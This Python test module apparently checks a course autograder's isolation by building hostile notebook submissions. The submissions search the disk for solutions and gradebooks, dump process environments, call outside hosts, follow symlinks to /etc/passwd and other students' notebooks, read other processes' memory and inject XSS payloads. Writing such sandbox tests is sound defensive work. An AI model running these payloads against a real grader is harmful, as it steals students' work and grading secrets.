"""Submissions that look for what they should not see. What they find, they print; the test looks for it in the feedback."""
from conftest import free_port
from submissions import FULL, RIGHT, WRONG, attempt

SECRET = "THE-SECRET-OUTSIDE"   # the test writes it into a file, the environment and another submission
PORT = free_port()              # the test listens there


@attempt(FULL, RIGHT)
def reads_the_disk(work):
    """Searches the whole file system for solutions, gradebooks, and other submissions."""
    work.first(f'''import os
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in folder: continue
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith((".db", ".ipynb", ".txt", ".py")):
            try:
                hidden = any(part in path for part in ("/submitted/", "/solutions/", "gradebook.db", "/seed"))
                if hidden or b"{SECRET[:9]}" b"{SECRET[9:]}" in open(path, "rb").read(200_000): print("FOUND-" "FILE", path)
            except OSError: pass''')


@attempt(FULL, RIGHT)
def reads_the_environment(work):
    """Prints its environment, those of all processes that it can see, their command lines, and what is mounted."""
    work.first('''import glob, os
print(dict(os.environ), open("/proc/self/mountinfo").read())
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: print(open(path, "rb").read())
    except OSError: pass''')


@attempt(FULL, RIGHT)
def calls_home(work):
    """Opens connections to the outside: by address, by name, by HTTP, by UDP."""
    work.first('''import socket, urllib.request
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("example.org", 80)):
    try:
        socket.create_connection(address, timeout=0.3).send(b"stolen")
        print("CONNECTED", address)
    except OSError: pass
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", PORT))
except OSError: pass
try: print("CONNECTED", urllib.request.urlopen("http://example.org", timeout=0.3).status)
except OSError: pass'''.replace("PORT", str(PORT)))


@attempt(FULL, RIGHT)
def keeps_the_cases(work):
    """`pluck` keeps what it is called with; a later cell prints it."""
    work.answer("pluck", "KEPT = []\n" + RIGHT["pluck"].replace("    if", "    KEPT.append((codes, weight))\n    if", 1))
    work.last("print('KEPT', len(KEPT), KEPT)")


@attempt(FULL, RIGHT)
def writes_the_cases_down(work):
    """`pluck` writes its cases into a file; a thread and a child print whatever arrives there."""
    work.answer("pluck", RIGHT["pluck"].replace(
        "    if", "    open('cases.txt', 'a').write(f'CASE {codes} {weight}')\n    print('CASE', codes)\n    if", 1))
    work.last('''import os, threading, time
def show():
    for _ in range(20):
        time.sleep(0.1)
        if os.path.exists("cases.txt"): print("CASES", open("cases.txt").read())
threading.Thread(target=show, daemon=True).start()
if os.fork() == 0:
    show(); os._exit(0)
print("CASES", os.path.exists("cases.txt"))''')


@attempt(0, WRONG)
def listens_on_the_wire(work):
    """A child process reads every socket that it has inherited, for the cases."""
    work.first('''import os, select, socket, time
if os.fork() == 0:
    channels = []
    for fd in range(3, 64):
        try: channels.append(socket.socket(fileno=fd))
        except OSError: pass
    end = time.time() + 3
    while time.time() < end:
        for c in select.select(channels, [], [], 0.1)[0]:
            try: open("wire.txt", "ab").write(c.recv(10**6))
            except OSError: pass
    os._exit(0)''')
    work.last("import time; time.sleep(0.5)\nprint(open('wire.txt').read() if __import__('os').path.exists('wire.txt') else '')")


@attempt(FULL, RIGHT)
def a_link_to_the_neighbour(work):
    """A file in the submission is a link to another student's notebook; a cell prints it."""
    (work.folder / "notes.txt").symlink_to(work.folder.parent.parent / "victim" / "02-matmul" / "02-matmul.ipynb")
    (work.folder / "passwords").symlink_to("/etc/passwd")
    (work.folder / "everything").symlink_to("/")
    # The release's own checks.json lies there, for everybody.
    work.first("import os\nfor name in {*os.listdir('.')} - {'checks.json'}:\n    try: print('READ', name, open(name).read()[:2000])\n"
               "    except OSError as error: print(error)")


@attempt(None, RIGHT)
def the_notebook_is_a_link(work):
    """The notebook itself is a link to another student's."""
    target = work.folder.parent.parent / "victim" / "02-matmul" / "02-matmul.ipynb"
    work.save = lambda: (work.folder / "02-matmul.ipynb").symlink_to(target)


@attempt(FULL, RIGHT)
def paths_with_dots(work):
    """A cell reads and writes through .. out of its folder."""
    work.first('''for path in ("../../../../gradebook.db", "../../seed", "../../../solutions/02-matmul.py", "/root/.bashrc"):
    for up in ("", "../", "../../"):
        try: print("READ", open(up + path).read()[:200])
        except (OSError, UnicodeDecodeError): pass''')


@attempt(FULL, RIGHT)
def imports_the_solutions(work):
    """Imports the course's own machinery and asks it for the lesson's reference."""
    work.first('''try:
    from embedding_course.course.project import Project
    from embedding_course.course.lesson import read_lesson
    print("READ", read_lesson(Project.find().solutions / "02-matmul.py").solution_cells())
except BaseException as error: print(type(error))''')


@attempt(FULL, RIGHT)
def another_process_s_memory(work):
    """Traces and reads the memory of its parents."""
    work.first('''import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [1, os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid == os.getpid(): continue
    if libc.ptrace(16, pid, 0, 0) == 0: print("TRACED", pid)
    try: print("READ", open(f"/proc/{pid}/mem", "rb").read(1))
    except OSError: pass''')


@attempt(FULL, RIGHT)
def active_content(work):
    """HTML and scripts in outputs and in text, for whoever opens the feedback."""
    work.cells.insert(0, {"cell_type": "markdown", "id": "own-html", "metadata": {}, "source":
                          "<script>alert('XSS-MD')</script> <img src=x onerror=alert('XSS-IMG')> "
                          "[click](javascript:alert('XSS-LINK')) <iframe src='http://evil.example'></iframe>"})
    work.first('''from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('XSS-OUT')</script><img src=x onerror=alert('XSS-OUT2')><b onclick=alert(3)>hi</b>"))
display(Javascript("alert('XSS-JS')"))
display({"image/svg+xml": "<svg onload=alert('XSS-SVG')></svg>", "text/markdown": "<script>alert('XSS-MDOUT')</script>"}, raw=True)
print("<script>alert('XSS-PRINT')</script>")''')
    work.find("own-words")["source"] = "<script>alert('XSS-WRITTEN')</script> My answer <a href='javascript:alert(1)'>x</a>"


@attempt(FULL, RIGHT)
def machine_paths(work):
    """Errors and modules that print where things lie on the grader's machine."""
    work.first("import torch, sys, embedding_course\nprint(torch.__file__, sys.executable, embedding_course.__file__)\n"
               "torch.zeros(2) @ torch.zeros(3)")
